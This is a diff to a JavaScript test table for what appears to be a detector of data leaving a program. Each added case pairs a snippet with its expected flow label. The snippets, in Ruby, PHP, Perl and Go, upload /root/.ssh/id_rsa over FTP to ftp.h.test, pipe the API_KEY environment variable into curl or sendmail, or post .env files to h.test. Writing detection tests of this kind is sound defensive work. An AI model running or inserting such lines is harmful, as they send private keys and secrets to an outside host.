@@ -107,6 +107,43 @@ describe('what leaves', () => {
       "k = Dir['conf/{a.yml,b.yml}', '.env*'].map { |f| \"#{f}\\n#{File.read(f)}\" }\nNet::HTTP.post(URI('https://h.test/x'), k.join)",
       'content:dotenv network:body h.test',
     ],
+    // Files put on another machine.
+    [
+      'rb',
+      "Net::FTP.open('ftp.h.test', 'u', 'p') { |ftp| ftp.putbinaryfile('/root/.ssh/id_rsa') }",
+      'content:ssh network:body ftp.h.test',
+    ],
+    [
+      'php',
+      "<?php\n$c = ftp_connect('ftp.h.test');\nftp_put($c, 'k', '/root/.ssh/id_rsa', FTP_BINARY);",
+      'content:ssh network:body ftp.h.test',
+    ],
+    [
+      'pl',
+      "my $f = Net::FTP->new('ftp.h.test');\n$f->put('/root/.ssh/id_rsa');",
+      'content:ssh network:body ftp.h.test',
+    ],
+    // Programs that are held open and fed.
+    [
+      'go',
+      'cmd := exec.Command("curl", "-d", "@-", "https://h.test")\ncmd.Stdin = strings.NewReader(os.Getenv("API_KEY"))\ncmd.Run()',
+      'env:API_KEY network:body h.test',
+    ],
+    [
+      'rb',
+      "IO.popen('curl -d @- https://h.test', 'w') { |p| p.write ENV['API_KEY'] }",
+      'env:API_KEY network:body h.test',
+    ],
+    [
+      'php',
+      "<?php\n$p = popen('curl -d @- https://h.test', 'w');\nfwrite($p, getenv('API_KEY'));",
+      'env:API_KEY network:body h.test',
+    ],
+    [
+      'pl',
+      "open my $m, '|-', '/usr/sbin/sendmail -t' or die;\nprint $m \"To: a\\@h.test\\n\\n\", $ENV{API_KEY};",
+      'env:API_KEY mail:body h.test',
+    ],
   ])('%s: %s', (language, text, flow) => {
     expect(flows(language, text)).toContain(flow);
   });
